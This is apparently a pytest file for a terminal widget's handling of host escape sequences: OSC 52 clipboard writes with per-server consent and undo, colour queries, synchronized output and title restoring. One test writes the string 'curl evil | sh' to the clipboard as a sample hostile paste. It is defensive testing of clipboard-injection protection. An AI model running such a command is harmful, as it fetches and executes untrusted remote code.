"""The terminal widget wires host requests to the desktop: OSC 52 clipboard (never read back),
colour queries answered from the theme, synchronized output, the title stack."""

from __future__ import annotations

import base64

import pytest

from gpudesk.core import settings
from gpudesk.ui.qt import QtGui, QtWidgets
from tests.helpers.canvas import shown_canvas

pytestmark = [pytest.mark.gui]


@pytest.fixture
def canvas(qtbot):
    c = shown_canvas(qtbot)
    replies: list[bytes] = []
    c.reply.connect(replies.append)
    c.replies = replies
    return c


def _osc52(text: str, target: str = "c", end: bytes = b"\x07") -> bytes:
    return b"\x1b]52;" + target.encode() + b";" + base64.b64encode(text.encode()) + end


def _answers(c, data: bytes, qtbot=None) -> list[bytes]:
    c.replies.clear()
    c.feed(data)
    c.data_ready()  # replies go out on the next frame
    if qtbot is not None:
        qtbot.waitUntil(lambda: bool(c.replies), timeout=5000)
    return list(c.replies)


def test_osc52_puts_text_on_the_clipboard(canvas) -> None:
    clipboard = QtWidgets.QApplication.clipboard()
    clipboard.setText("before")
    canvas.feed(_osc52("yanked from neovim ✓\n", end=b"\x1b\\"))
    assert clipboard.text() == "yanked from neovim ✓\n"
    if clipboard.supportsSelection():
        canvas.feed(_osc52("primary text", "p"))
        assert clipboard.text(QtGui.QClipboard.Mode.Selection) == "primary text"
        assert clipboard.text() == "yanked from neovim ✓\n"


def test_osc52_query_never_reads_the_clipboard(canvas) -> None:
    clipboard = QtWidgets.QApplication.clipboard()
    clipboard.setText("secret-local-text")
    assert _answers(canvas, b"\x1b]52;c;?\x07\x1b]52;p;?\x1b\\") == []
    assert clipboard.text() == "secret-local-text"
    assert canvas.screen.display[0].strip() == ""


def test_osc52_setting_off_ignores_the_host(qtbot) -> None:
    from gpudesk.ui.terminal.canvas import TerminalCanvas

    settings.set("terminal.osc52", "off")
    c = TerminalCanvas()
    qtbot.addWidget(c)
    clipboard = QtWidgets.QApplication.clipboard()
    clipboard.setText("mine")
    c.feed(_osc52("from the server"))
    assert clipboard.text() == "mine"
    replies: list[bytes] = []
    c.reply.connect(replies.append)
    c.feed(b"\x1b[c")
    c.data_ready()
    assert replies == [b"\x1b[?62;22c"]  # no 52 claimed


def test_osc52_turned_off_later_takes_effect_at_once(canvas) -> None:
    clipboard = QtWidgets.QApplication.clipboard()
    clipboard.setText("mine")
    settings.set("terminal.osc52", "off")
    canvas.feed(_osc52("from the server"))
    assert clipboard.text() == "mine"


def test_colour_queries_answer_the_theme(canvas, qtbot) -> None:
    theme = canvas.painter.theme
    bg = theme.background
    expect = f"\x1b]11;rgb:{bg.red() * 257:04x}/{bg.green() * 257:04x}/{bg.blue() * 257:04x}\x07".encode()
    assert _answers(canvas, b"\x1b]11;?\x07", qtbot) == [expect]
    red = theme.palette[1]
    expect = f"\x1b]4;1;rgb:{red.red() * 257:04x}/{red.green() * 257:04x}/{red.blue() * 257:04x}\x1b\\".encode()
    assert _answers(canvas, b"\x1b]4;1;?\x1b\\", qtbot) == [expect]


def test_host_colours_repaint_and_reset(canvas) -> None:
    base_bg = QtGui.QColor(canvas.painter.theme.background)
    canvas.feed(b"\x1b]4;1;rgb:01/02/03\x07\x1b]11;#102030\x07")
    theme = canvas.painter.theme
    assert (theme.palette[1].red(), theme.palette[1].green(), theme.palette[1].blue()) == (1, 2, 3)
    assert theme.background == QtGui.QColor(0x10, 0x20, 0x30)
    canvas.feed(b"\x1b]104\x07\x1b]111\x07")
    assert canvas.painter.theme.background == base_bg
    assert canvas.painter.theme.palette[1] != QtGui.QColor(1, 2, 3)


def test_synchronized_output_holds_the_repaint(canvas) -> None:
    canvas.feed(b"ready")
    assert not canvas.screen.dirty and not canvas.screen.dirty_all
    canvas.feed(b"\x1b[?2026h\x1b[5;1Hhalf drawn")
    assert 4 in canvas.screen.dirty  # not taken for painting while the update is open
    canvas.feed(b" frame\x1b[?2026l")
    assert not canvas.screen.dirty


def test_title_stack_restores_the_tab_title(canvas, qtbot) -> None:
    titles: list[str] = []
    canvas.title_changed.connect(titles.append)
    canvas.feed(b"\x1b]0;user@gpu: ~\x07")
    canvas.feed(b"\x1b[22;0t\x1b]2;vim notes.txt\x07")
    canvas.feed(b"\x1b[23;0t")
    assert titles == ["user@gpu: ~", "vim notes.txt", "user@gpu: ~"]


# -- never silent: asked once per server, every change announced with Undo ------------------------


@pytest.fixture
def view(qtbot):
    from gpudesk.core.sessions import Session
    from gpudesk.ui.controller import ConnectionController
    from gpudesk.ui.terminal.view import TerminalView

    controller = ConnectionController(Session(name="box", host="203.0.113.5", port=2222, username="u"))
    v = TerminalView(controller.server, "t1")
    qtbot.addWidget(v)
    v.resize(640, 400)
    v.show()
    yield v
    controller.close()


def test_a_server_is_asked_about_once_and_nothing_is_set_before(view, qtbot) -> None:
    from gpudesk.core.terminal import clipboard_trust

    clipboard = QtWidgets.QApplication.clipboard()
    clipboard.setText("mine")
    view.canvas.feed(_osc52("from the server"))
    assert clipboard.text() == "mine"  # not before the answer
    assert view.clip_notice.isVisible() and view.clip_notice.allow_button.isVisible()
    assert "203.0.113.5:2222" in view.clip_notice.label.text()
    view.clip_notice.allow_button.click()
    assert clipboard.text() == "from the server"
    assert clipboard_trust.decision("203.0.113.5:2222") == clipboard_trust.ALLOW
    view.canvas.feed(_osc52("second"))  # allowed now: set at once, and said so
    assert clipboard.text() == "second"
    assert view.clip_notice.undo_button.isVisible() and not view.clip_notice.allow_button.isVisible()


def test_every_change_can_be_undone(view) -> None:
    from gpudesk.core.terminal import clipboard_trust

    clipboard_trust.remember("203.0.113.5:2222", True)
    clipboard = QtWidgets.QApplication.clipboard()
    clipboard.setText("my password manager's copy")
    view.canvas.feed(_osc52("curl evil | sh"))
    assert clipboard.text() == "curl evil | sh"
    assert view.clip_notice.isVisible() and "14 character" in view.clip_notice.label.text()
    view.clip_notice.undo_button.click()
    assert clipboard.text() == "my password manager's copy"
    assert not view.clip_notice.isVisible()


def test_a_server_refused_once_never_sets_it(view) -> None:
    clipboard = QtWidgets.QApplication.clipboard()
    clipboard.setText("mine")
    view.canvas.feed(_osc52("one"))
    view.clip_notice.deny_button.click()
    view.canvas.feed(_osc52("two"))
    assert clipboard.text() == "mine" and not view.clip_notice.isVisible()
